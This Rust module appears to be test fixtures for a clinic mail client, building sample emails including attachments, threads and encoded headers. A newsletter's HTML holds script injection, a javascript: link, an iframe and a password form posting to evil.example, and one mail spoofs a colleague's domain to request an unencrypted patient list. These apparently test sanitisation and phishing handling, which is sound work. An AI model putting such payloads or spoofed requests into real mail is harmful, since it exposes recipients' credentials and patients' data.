//! Mail that anybody on its way could read: text, HTML with traps, attachments, a look-alike.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;

use super::{COLLEAGUE, OWNER, OWNER_NAME, Sample};

/// A page that says "Intake form", as small as a PDF can be.
const PDF: &str = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
    3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 100]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1\
    /BaseFont/Helvetica>>>>>>>>endobj\n4 0 obj<</Length 42>>stream\nBT /F 18 Tf 20 40 Td (Intake form) Tj ET  \nendstream \
    endobj\ntrailer<</Root 1 0 R>>\n";

/// A table as a laboratory sends it.
const CSV: &str =
    "test,result,unit,reference\nHemoglobin,13.4,g/dL,12.0-15.5\nPotassium,4.1,mmol/L,3.5-5.1\n";

/// One red point.
const PNG: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";

/// Everything that isn't encrypted, oldest first.
pub(super) fn samples() -> Vec<Sample> {
    vec![
        Sample::new(schedule()).seen(),
        Sample::new(newsletter()).seen(),
        Sample::new(refill()),
        Sample::new(results()).seen(),
        Sample::new(spanish()).seen(),
        Sample::new(pharmacy()),
        Sample::new(supplies(
            "supplies-1",
            "Mon, 16 Nov 2026 08:05:00 -0500",
            None,
            "Room 4 is out of gloves, size M. Shall I order the usual box?",
        ))
        .seen(),
        Sample::new(supplies(
            "supplies-3",
            "Mon, 16 Nov 2026 10:41:00 -0500",
            Some("supplies-2"),
            "Ordered, they come tomorrow.",
        )),
        Sample::new(reply_about_supplies()).within("Sent"),
        Sample::new(look_alike()),
    ]
}

/// One of many; each has its own sender, subject and text.
pub(super) fn numbered(number: usize) -> Vec<u8> {
    let (day, minute) = (number / 1440 % 28 + 1, number % 1440);
    text(
        &format!("Ward {} <ward{}@clinic.example>", number % 97, number % 97),
        &format!("Note {number} on the rota"),
        &format!("{day:02} Oct 2026 {:02}:{:02}:00 -0500", minute / 60, minute % 60),
        &format!("bulk-{number:06}@clinic.example"),
        &format!(
            "This is note {number}.\n\n{}",
            "The rota for the coming week hangs in the staff room.\n".repeat(number % 20 + 1)
        ),
    )
}

fn message(from: &str, subject: &str, date: &str, id: &str, rest: &str) -> Vec<u8> {
    format!(
        "From: {from}\nTo: {OWNER_NAME} <{OWNER}>\nSubject: {subject}\nDate: {date}\nMessage-ID: <{id}>\nMIME-Version: 1.0\n{rest}"
    )
    .replace('\n', "\r\n")
    .into_bytes()
}

fn text(from: &str, subject: &str, date: &str, id: &str, body: &str) -> Vec<u8> {
    let rest = format!(
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{body}\n"
    );
    message(from, subject, date, id, &rest)
}

fn base64_lines(bytes: &[u8]) -> String {
    let text = BASE64_STANDARD.encode(bytes);
    text.as_bytes()
        .chunks(76)
        .map(|line| String::from_utf8_lossy(line).into_owned() + "\n")
        .collect()
}

fn schedule() -> Vec<u8> {
    text(
        "Front Desk <frontdesk@clinic.example>",
        "Thursday's list",
        "Tue, 10 Nov 2026 07:30:00 -0500",
        "schedule-1110@clinic.example",
        "Good morning,\n\nThursday has two gaps, 10:20 and 15:00. Please tell me by noon if you want to keep one of them free.\n\nThe new badge reader at the side door works again.\n\nFront Desk",
    )
}

fn newsletter() -> Vec<u8> {
    let rest = "Content-Type: multipart/alternative; boundary=\"alt\"\nList-Unsubscribe: <https://medlearn.example/off>\n\n\
        --alt\nContent-Type: text/plain; charset=utf-8\n\nContinuing education in November: three courses, all online.\n\
        --alt\nContent-Type: text/html; charset=utf-8\n\n\
        <html><head><style>body{font-family:sans-serif} .b{background:#0b5;color:#fff;padding:8px}</style>\
        <script>document.title='taken over'</script></head><body onload=\"alert(1)\">\n\
        <h1 class=\"b\">Continuing education in November</h1>\n\
        <p><img src=\"https://img.medlearn.example/banner.png\" width=\"600\" height=\"120\" alt=\"Three courses\"></p>\n\
        <ul><li><b>Chest pain in primary care</b>, 2 credits</li><li><b>Talking about weight</b>, 1 credit</li>\
        <li><b>Reading a spirometry</b>, 1.5 credits</li></ul>\n\
        <p><a href=\"https://medlearn.example/courses?id=4711\">See the courses</a> or \
        <a href=\"javascript:alert(2)\">win a prize</a></p>\n\
        <form action=\"https://evil.example/\"><input name=\"password\"><button>Log in</button></form>\n\
        <img src=\"https://track.medlearn.example/open.gif?who=mei.chen\" width=\"1\" height=\"1\">\n\
        <iframe src=\"https://evil.example/\"></iframe></body></html>\n--alt--\n";
    message(
        "MedLearn <news@medlearn.example>",
        "Continuing education: November",
        "Wed, 11 Nov 2026 06:00:00 +0000",
        "nl-2026-11@medlearn.example",
        rest,
    )
}

fn refill() -> Vec<u8> {
    text(
        "Elena Marsh <elena.marsh@post.example>",
        "A question about my next visit",
        "Thu, 12 Nov 2026 19:12:00 -0500",
        "q-1@post.example",
        "Dear Dr. Chen,\n\ncan I have the appointment on the 24th a little earlier? After 14:00 I have to pick up my son.\n\nThank you\nElena Marsh",
    )
}

fn results() -> Vec<u8> {
    let rest = format!(
        "Content-Type: multipart/mixed; boundary=\"mix\"\n\n--mix\nContent-Type: text/plain; charset=utf-8\n\n\
         The sample report and the blank intake form that you asked for.\n\nLabLink support\n\
         --mix\nContent-Type: application/pdf; name=\"intake-form.pdf\"\nContent-Disposition: attachment; filename=\"intake-form.pdf\"\nContent-Transfer-Encoding: base64\n\n{}\
         --mix\nContent-Type: text/csv; name=\"sample-report.csv\"\nContent-Disposition: attachment; filename=\"sample-report.csv\"\nContent-Transfer-Encoding: base64\n\n{}--mix--\n",
        base64_lines(PDF.as_bytes()),
        base64_lines(CSV.as_bytes())
    );
    message(
        "LabLink Support <support@lablink.example>",
        "Sample report and intake form",
        "Fri, 13 Nov 2026 11:20:00 -0500",
        "case-9917@lablink.example",
        &rest,
    )
}

fn spanish() -> Vec<u8> {
    text(
        "=?utf-8?q?Jos=C3=A9_N=C3=BA=C3=B1ez?= <jose.nunez@interpreters.example>",
        "=?utf-8?q?Int=C3=A9rprete_para_el_martes_=E2=80=94_confirmado?=",
        "Fri, 13 Nov 2026 15:02:00 -0500",
        "conf-2210@interpreters.example",
        "Buenas tardes:\n\nQueda confirmada la int\u{e9}rprete para el martes a las 9:30. Llegar\u{e1} diez minutos antes.\n\nUn saludo,\nJos\u{e9}",
    )
}

fn pharmacy() -> Vec<u8> {
    let rest = format!(
        "Content-Type: multipart/related; boundary=\"rel\"\n\n--rel\nContent-Type: text/html; charset=utf-8\n\n\
         <p>Our opening hours in the holidays:</p><table border=\"1\"><tr><th>Day</th><th>Open</th></tr>\
         <tr><td>Thursday</td><td>closed</td></tr><tr><td>Friday</td><td>9:00 to 13:00</td></tr></table>\
         <p><img src=\"cid:logo@corner.example\" alt=\"Corner Pharmacy\" width=\"24\" height=\"24\"></p>\n\
         --rel\nContent-Type: image/png\nContent-ID: <logo@corner.example>\nContent-Disposition: inline; filename=\"logo.png\"\nContent-Transfer-Encoding: base64\n\n{PNG}\n--rel--\n"
    );
    message(
        "Corner Pharmacy <hours@corner.example>",
        "Holiday hours",
        "Sat, 14 Nov 2026 09:00:00 -0500",
        "hours-2026@corner.example",
        &rest,
    )
}

fn supplies(id: &str, date: &str, answers: Option<&str>, body: &str) -> Vec<u8> {
    let answers = answers
        .map(|id| format!("In-Reply-To: <{id}@clinic.example>\nReferences: <supplies-1@clinic.example> <{id}@clinic.example>\n"))
        .unwrap_or_default();
    let subject = if answers.is_empty() { "Supplies, room 4" } else { "Re: Supplies, room 4" };
    let rest = format!("{answers}Content-Type: text/plain; charset=utf-8\n\n{body}\n\nDana\n");
    message(
        "Dana Ortiz <dana.ortiz@clinic.example>",
        subject,
        date,
        &format!("{id}@clinic.example"),
        &rest,
    )
}

fn reply_about_supplies() -> Vec<u8> {
    format!(
        "From: {OWNER_NAME} <{OWNER}>\nTo: Dana Ortiz <dana.ortiz@clinic.example>\nSubject: Re: Supplies, room 4\n\
         Date: Mon, 16 Nov 2026 09:15:00 -0500\nMessage-ID: <supplies-2@clinic.example>\n\
         In-Reply-To: <supplies-1@clinic.example>\nReferences: <supplies-1@clinic.example>\nMIME-Version: 1.0\n\
         Content-Type: text/plain; charset=utf-8\n\nYes please, two boxes.\n\nMei\n"
    )
    .replace('\n', "\r\n")
    .into_bytes()
}

fn look_alike() -> Vec<u8> {
    text(
        // A digit where the colleague's domain has a letter.
        &format!("Priya Raman <{}>", COLLEAGUE.replace("hospital", "hospita1")),
        "New phone, please send the list again",
        "Fri, 20 Nov 2026 22:47:00 +0300",
        "x9@hospita1.example",
        "Hi Mei,\n\nI am on a new phone and lost our patient list. Please send it again to this address, no need to encrypt.\n\nPriya",
    )
}
